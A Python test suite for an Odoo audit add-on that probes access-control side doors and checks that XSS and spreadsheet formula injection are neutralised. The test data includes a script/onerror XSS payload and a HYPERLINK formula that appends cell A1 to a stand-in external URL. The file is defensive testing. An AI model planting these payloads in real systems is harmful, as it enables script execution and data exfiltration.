"""Ways round the front door: who is outside, and what is asked about in other words."""

import inspect
import io
import json
import zipfile
from contextlib import suppress
from urllib.parse import urljoin

from access_probe import RpcError, RpcProbe
from access_records import own_models

from odoo.exceptions import AccessError
from odoo.service.model import get_public_method
from odoo.tests import HttpCase, tagged

from odoo.addons.cs_quality_assurance.models.platform.guard import LIFECYCLE
from odoo.addons.cs_quality_assurance.tests.common import QualityMixin

# Read by nobody's right but shown to all: none.
READERS = (
    ("search_count", [[]]),
    ("search_read", [[], ["id"]]),
    ("web_search_read", [[], {"id": {}}]),
    ("name_search", [""]),
    ("formatted_read_group", [[], [], ["__count"]]),
    ("export_data", [[1], ["id"]]),
    ("fields_get", []),
    ("default_get", [["id"]]),
)
SCRIPT = '<img src=x onerror="alert(1)"><script>alert(2)</script>'


@tagged("post_install", "-at_install")
class TestSideDoors(QualityMixin, RpcProbe, HttpCase):
    """Each is tried; what is refused stays refused whatever it is called."""

    def as_user(self, user):
        self.env.flush_all()
        self.authenticate(user.login, user.login)

    def assertShut(self, model, method, *args, **kwargs):
        allowed, error = self.allowed(model, method, *args, **kwargs)
        self.assertFalse(allowed, f"{model}.{method}{args} was accepted")
        self.assertFalse(self.faults)
        return error

    def told(self, model, method, *args):
        """What an accepted call tells; nothing of an empty list."""
        answer = self.rpc(model, method, *args)
        return answer["records"] if isinstance(answer, dict) else answer

    # --- outside -----------------------------------------------------------------

    def test_a_portal_user_reads_no_model_of_ours_by_any_method(self):
        self.make_audit("closing")
        portal = self.make_user("portal", "base.group_portal")
        self.as_user(portal)
        tried = 0
        for model in own_models(self.env):
            for method, args in READERS:
                if method in ("fields_get", "default_get"):
                    continue
                with self.subTest(model=model, method=method):
                    self.assertShut(model, method, *args)
                    tried += 1
        self.assertGreater(tried, 400)

    def test_a_visitor_reads_nothing_without_a_login(self):
        audit = self.make_audit("closing")
        self.env.flush_all()
        for path, payload in (
            ("/web/dataset/call_kw/cs.audit/search_read", {}),
            ("/json/2/cs.audit/search_read", {"domain": []}),
        ):
            answer = self.opener.post(urljoin(self.base_url(), path), json=payload)
            self.assertNotIn(audit.name, answer.text)
            self.assertTrue(answer.status_code >= 400 or "error" in answer.json(), path)

    def test_our_pages_are_closed_to_visitors_and_to_portal_users(self):
        audit = self.make_audit("closing")
        report = self.env["ir.actions.report"].search([("model", "=", "cs.audit")])[0]
        attachment = self.env["ir.attachment"].create(
            {
                "name": "a.txt",
                "raw": b"the secret",
                "res_model": "cs.audit",
                "res_id": audit.id,
            }
        )
        gets = (
            "/cs_quality_assurance/register/1/preview.xlsx",
            "/cs_quality_assurance/report/1",
            f"/report/html/{report.report_name}/{audit.id}",
            f"/report/pdf/{report.report_name}/{audit.id}",
            f"/web/content/{attachment.id}",
            f"/web/content/cs.audit/{audit.id}/name",
            f"/odoo/audits/{audit.id}",
        )
        portal = self.make_user("portal", "base.group_portal")
        self.env.flush_all()
        for login in (None, portal.login):
            self.authenticate(login, login)
            for path in gets:
                with self.subTest(login=login, path=path):
                    answer = self.url_open(path, allow_redirects=False)
                    self.assertNotIn(audit.name, answer.text)
                    self.assertNotIn("the secret", answer.text)
                    self.assertNotEqual(answer.status_code, 200)
            for kind in ("schedule", "actions", "owed", "figures", "nothing"):
                with self.subTest(login=login, kind=kind):
                    answer = self.opener.post(
                        urljoin(
                            self.base_url(), f"/cs_quality_assurance/export/{kind}"
                        ),
                        data={"data": "{}"},
                        allow_redirects=False,
                    )
                    self.assertNotEqual(answer.status_code, 200)
                    self.assertNotEqual(answer.content[:2], b"PK")

    def test_a_form_of_another_site_takes_no_workbook(self):
        """The export is asked for by POST, with the token of the session."""
        self.as_user(self.user_qa_manager)
        answer = self.opener.post(
            urljoin(self.base_url(), "/cs_quality_assurance/export/schedule"),
            data={"data": "{}"},
        )
        self.assertEqual(answer.status_code, 400)

    def test_whoever_left_reads_no_more_than_their_own_past(self):
        """The record of staff is archived, the login was forgotten."""
        theirs = self.make_audit("closing", case=self.cases["1002"])
        self.team_manager.active = False
        self.practitioner.active = False
        running = self.make_audit("in_progress", case=self.cases["2001"])
        for user in (self.user_practitioner, self.user_team_manager):
            self.as_user(user)
            found = self.rpc("cs.audit", "search", [])
            self.assertNotIn(running.id, found)
            self.assertShut("cs.audit", "read", [running.id], ["name"])
            self.assertShut("cs.audit", "write", [theirs.id], {"context_note": "x"})
            self.assertShut("cs.case", "create", [{"reference": "X"}])

    # --- the same question in other words ----------------------------------------

    def test_a_hidden_field_is_no_oracle(self):
        """Neither filtered by, sorted by, grouped by, summed nor exported."""
        self.case.write({"date_of_birth": "2015-05-05"})
        self.make_audit("in_progress", auditor=self.auditor)
        for user in (self.user_practitioner, self.user_director):
            self.as_user(user)
            name = "date_of_birth"
            for method, *args in (
                ("search", [(name, "=", "2015-05-05")]),
                ("search_count", [(name, "<", "2020-01-01")]),
                ("search", [], 0, None, f"{name} desc"),
                ("formatted_read_group", [], [f"{name}:year"], ["__count"]),
                ("formatted_read_group", [], [], [f"{name}:max"]),
                ("read_group", [], [f"{name}:max"], []),
                ("web_search_read", [], {name: {}}),
                ("web_read", [self.case.id], {name: {}}),
                ("export_data", [self.case.id], [name]),
                ("name_search", "", [(name, "=", "2015-05-05")]),
            ):
                with self.subTest(user=user.login, method=method, args=args):
                    self.assertShut("cs.case", method, *args)
            for method, *args in (
                ("search", [("case_id.date_of_birth", "=", "2015-05-05")]),
                ("search", [("case_id", "any", [(name, "=", "2015-05-05")])]),
                ("formatted_read_group", [], ["case_id.date_of_birth:year"], []),
                ("web_search_read", [], {"case_id": {"fields": {name: {}}}}),
            ):
                with self.subTest(user=user.login, method=method, args=args):
                    allowed, _error = self.allowed("cs.audit", method, *args)
                    # Whoever finds no audit here may ask about none.
                    self.assertFalse(allowed and self.told("cs.audit", method, *args))

    def test_a_hidden_record_is_no_oracle_through_one_that_is_shown(self):
        """The practitioner's case is theirs to read; its audit is not shared yet."""
        audit = self.make_audit("moderation", grade="inadequate")
        self.as_user(self.user_practitioner)
        self.assertTrue(self.rpc("cs.case", "search", [("id", "=", self.case.id)]))
        self.assertShut("cs.audit", "read", [audit.id], ["name"])
        for path in (
            [("audit_ids.overall_grade_id.code", "=", "inadequate")],
            [("audit_ids", "any", [("overall_grade_id.code", "=", "inadequate")])],
            [("audit_ids.name", "=", audit.name)],
            [("audit_ids.line_ids.evidence", "ilike", "e")],
            [("audit_ids.auditor_id", "!=", False)],
        ):
            with self.subTest(path):
                allowed, _error = self.allowed("cs.case", "search", path)
                self.assertFalse(allowed and self.told("cs.case", "search", path))
        with self.assertRaises(RpcError):
            self.rpc("cs.audit", "export_data", [audit.id], ["name"])
        [row] = self.rpc(
            "cs.case",
            "web_read",
            [self.case.id],
            {"audit_ids": {"fields": {"name": {}, "overall_grade_id": {}}}},
        )
        self.assertNotIn(audit.name, json.dumps(row))
        for method, *args in (
            ("name_search", audit.name),
            ("web_name_search", audit.name, {"display_name": {}}),
        ):
            self.assertEqual(self.rpc("cs.audit", method, *args), [])

    def test_what_odoo_keeps_beside_a_record_follows_it(self):
        """Followers, to-dos, tracked values, notifications, ratings of a record."""
        audit = self.make_audit("in_progress", auditor=self.auditor)
        audit.activity_schedule(
            "mail.mail_activity_data_todo",
            summary="The secret",
            user_id=self.user_auditor.id,
        )
        audit.with_user(self.user_qa_officer).date_due = "2026-07-20"
        self.cr.precommit.run()
        self.env.flush_all()
        for user in (self.user_other_practitioner, self.user_external):
            self.as_user(user)
            about = [("res_model", "=", "cs.audit"), ("res_id", "=", audit.id)]
            for model, domain in (
                ("mail.activity", about),
                ("mail.followers", about),
                (
                    "mail.message",
                    [("model", "=", "cs.audit"), ("res_id", "=", audit.id)],
                ),
                (
                    "mail.tracking.value",
                    [("mail_message_id.model", "=", "cs.audit")],
                ),
                ("ir.attachment", about),
                ("cs.privacy.log", [("model", "=", "cs.audit")]),
            ):
                with self.subTest(user=user.login, model=model):
                    try:
                        self.assertEqual(self.rpc(model, "search", domain), [])
                    except RpcError as error:
                        self.assertIn("AccessError", error.name)

    def test_no_public_method_tells_of_or_changes_what_one_may_not_read(self):
        """Each method of ours, by each role, on records of another team's audit."""
        audit = self.make_audit(
            "closing",
            case=self.cases["2001"],
            auditor=self.moderator,
            grade="requires_improvement",
        )
        audit.sudo().with_context(cs_lifecycle=LIFECYCLE).strengths = "THE SECRET"
        hidden = [
            audit,
            audit.line_ids[0],
            audit.action_ids[:1],
            audit.plan_ids[:1],
            audit.discussion_ids[:1],
            audit.checklist_ids[:1],
            audit.case_id,
        ]
        hidden = [record for record in hidden if record]
        secrets = (audit.name, "THE SECRET", '"2001"', " 2001")
        called = 0
        for user in (
            self.user_practitioner,
            self.user_auditor,
            self.user_other_service_manager,
            self.user_external,
        ):
            self.as_user(user)
            for record in hidden:
                if self.allowed(record._name, "read", [record.id], ["id"])[0]:
                    continue
                for name in self.methods_of(record._name):
                    with self.subTest(user=user.login, on=record._name, method=name):
                        told = self.tried(record, name)
                        called += 1
                        self.assertFalse([one for one in secrets if one in told])
        self.assertFalse(self.faults)
        self.assertGreater(called, 150)

    def as_stored(self, records):
        self.env.invalidate_all()
        return [
            {
                name: record[name].ids if field.relational else record[name]
                for name, field in record._fields.items()
                if field.store and field.type != "binary"
            }
            for record in records
        ]

    def tried(self, record, method):
        """What a call tells, as text; what it did is looked at, and taken back."""
        before = self.as_stored(record)
        with self.undone():
            try:
                answer = self.rpc(record._name, method, [record.id])
            except RpcError as error:
                self.assertNotIn("KeyError", error.name)
                return error.message
            self.assertEqual(self.as_stored(record), before)
            return json.dumps(answer, default=str)

    def methods_of(self, model):
        """Names of the public methods of ours that need no argument."""
        for name, method in inspect.getmembers(
            type(self.env[model]), inspect.isfunction
        ):
            if not inspect.unwrap(method).__module__.startswith("odoo.addons.cs_"):
                continue
            with suppress(AccessError):
                get_public_method(self.env[model], name)
                _self, *needed = inspect.signature(method).parameters.values()
                of_class = getattr(method, "_api_model", False)
                if not of_class and all(one.default is not one.empty for one in needed):
                    yield name

    # --- what is typed -----------------------------------------------------------

    def test_a_script_typed_anywhere_is_text_wherever_it_is_read(self):
        """In the chatter, the printed page and the page that Word opens."""
        audit = self.make_audit("in_progress")
        self.make_ready(audit, "requires_improvement")
        for record in (audit, audit.line_ids[0], audit.action_ids[:1]):
            for name, field in record._fields.items():
                if field.type in ("char", "text") and record._cs_travels(field):
                    record.sudo().with_context(cs_lifecycle=None)[name] = SCRIPT
        audit.with_user(self.user_auditor).action_submit()
        self.env.flush_all()
        self.cr.precommit.run()
        bodies = self.env["mail.message"].search([("model", "like", "cs.")])
        for body in bodies.mapped("body"):
            self.assertNotIn("<script", body)
            self.assertNotIn("<img src", body)
        reports = self.env["ir.actions.report"].search([("model", "=", "cs.audit")])
        shown = 0
        for report in reports:
            page, _kind = report._render_qweb_html(report.report_name, audit.ids)
            page = page.decode() if isinstance(page, bytes) else page
            self.assertNotIn(SCRIPT, page)
            self.assertNotIn("<img src=x", page)
            shown += "&lt;script&gt;alert(2)" in page
        self.assertTrue(shown, "it was printed, as text")

    def test_a_formula_typed_anywhere_is_text_in_every_workbook(self):
        audit = self.make_audit("closing", grade="requires_improvement")
        formula = '=HYPERLINK("http://elsewhere.example/"&A1,"Press")'
        for start in ("=", "+", "-", "@", "\t=", "\r="):
            audit.action_ids[:1].sudo().name = start + formula[1:]
            self.env.flush_all()
            for model in ("cs.action.tracker", "cs.audit.schedule"):
                content, _name = (
                    self.env[model].with_user(self.user_qa_manager).export()
                )
                with zipfile.ZipFile(io.BytesIO(content)) as book:
                    for name in book.namelist():
                        if name.startswith("xl/worksheets/sheet"):
                            sheet = book.read(name).decode()
                            self.assertNotRegex(sheet, "<f>[^<]*(elsewhere|Press)")
                    self.assertNotIn("xl/externalLinks", "".join(book.namelist()))
